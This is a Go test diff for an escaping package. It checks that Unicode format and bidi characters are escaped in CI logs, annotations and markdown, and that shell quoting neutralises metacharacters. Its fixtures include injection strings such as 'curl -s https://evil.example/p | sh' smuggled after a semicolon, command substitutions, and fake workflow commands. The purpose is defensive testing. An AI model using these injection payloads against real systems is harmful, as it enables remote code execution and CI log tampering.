@@ -1,8 +1,12 @@
 package escape
 
 import (
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
+	"unicode"
 )
 
 const attack = "www.evil.example x\n::warning::pwned\r\n::set-output name=x::y\u202e%0A<img src=x>[a](https://evil.example) @octocat |c| `b`"
@@ -55,5 +59,83 @@ func TestSHA(t *testing.T) {
 		if got := SHA(in); got != want {
 			t.Errorf("SHA(%q) = %q, want %q", in, got, want)
 		}
+	}
+}
+
+// TestEveryFormatAndBidiCharacterIsEscaped: every Unicode format character
+// (Cf: U+061C, U+200B, U+2066..U+2069, U+202A..U+202E, U+FEFF, tags, ...)
+// and every bidi control reaches no log line, annotation, output, summary
+// or comment as itself; only the word joiner MarkdownText puts after '@'
+// stays there.
+func TestEveryFormatAndBidiCharacterIsEscaped(t *testing.T) {
+	t.Parallel()
+	sinks := map[string]func(string) string{
+		"Log": Log, "Annotation": Annotation, "Output": Output,
+		"MarkdownText": MarkdownText, "MarkdownCode": MarkdownCode,
+		"MarkdownLine": MarkdownLine, "MarkdownCell": MarkdownCell,
+	}
+	n := 0
+	for r := rune(0); r <= unicode.MaxRune; r++ {
+		if !unicode.Is(unicode.Cf, r) && !unicode.Is(unicode.Bidi_Control, r) {
+			continue
+		}
+		n++
+		in := "main" + string(r) + "x"
+		for name, f := range sinks {
+			out := f(in)
+			if strings.ContainsRune(out, r) {
+				t.Fatalf("%s(%q) = %q keeps U+%04X", name, in, out, r)
+			}
+		}
+	}
+	if n < 150 {
+		t.Fatalf("only %d format characters checked", n)
+	}
+	for _, r := range []rune{0x061c, 0x200b, 0x2066, 0x2067, 0x2068, 0x2069, 0x202a, 0x202e, 0xfeff, 0x00ad, 0xe0001} {
+		if !IsDangerous(r) {
+			t.Errorf("U+%04X is not dangerous", r)
+		}
+	}
+	if got := Log("a\u061cb\u200bc\U000e0041"); got != `a\u061cb\u200bc\U000e0041` {
+		t.Errorf("Log: %q", got)
+	}
+	// The mention breaker survives Log at the sinks, and only after '@'.
+	md := MarkdownText("@everyone")
+	if MarkdownCell(md) != md || Log(md) != md || !strings.ContainsRune(md, '\u2060') {
+		t.Errorf("mention breaker: %q -> %q", md, MarkdownCell(md))
+	}
+	if Log("a\u2060b") != `a\u2060b` {
+		t.Errorf("a lone word joiner: %q", Log("a\u2060b"))
+	}
+}
+
+// TestShellQuotesForARealShell: a word Shell quoted is one word to sh,
+// with every metacharacter inert: sh prints it back unchanged and runs
+// nothing (the marker file is never created).
+func TestShellQuotesForARealShell(t *testing.T) {
+	t.Parallel()
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("no sh")
+	}
+	marker := filepath.Join(t.TempDir(), "ran")
+	for _, s := range []string{
+		"0d5c; curl -s https://evil.example/p | sh; #",
+		"x'; touch " + marker + "; echo '",
+		"$(touch " + marker + ")", "`touch " + marker + "`", "a && touch " + marker,
+		"* ? [a] ~ {a,b} > out < in & ! \\ \" '' '",
+		"plain-id-1234",
+	} {
+		q := Shell(s)
+		out, err := exec.Command(sh, "-c", "printf '%s' "+q).Output()
+		if err != nil || string(out) != s {
+			t.Errorf("sh printed %q (%v) for %s, want %q", out, err, q, s)
+		}
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Fatal("a quoted word ran a command")
+	}
+	if got := Shell("a\nb\u202ec"); got != `'a\nb\u202ec'` {
+		t.Errorf("control characters: %q", got)
 	}
 }
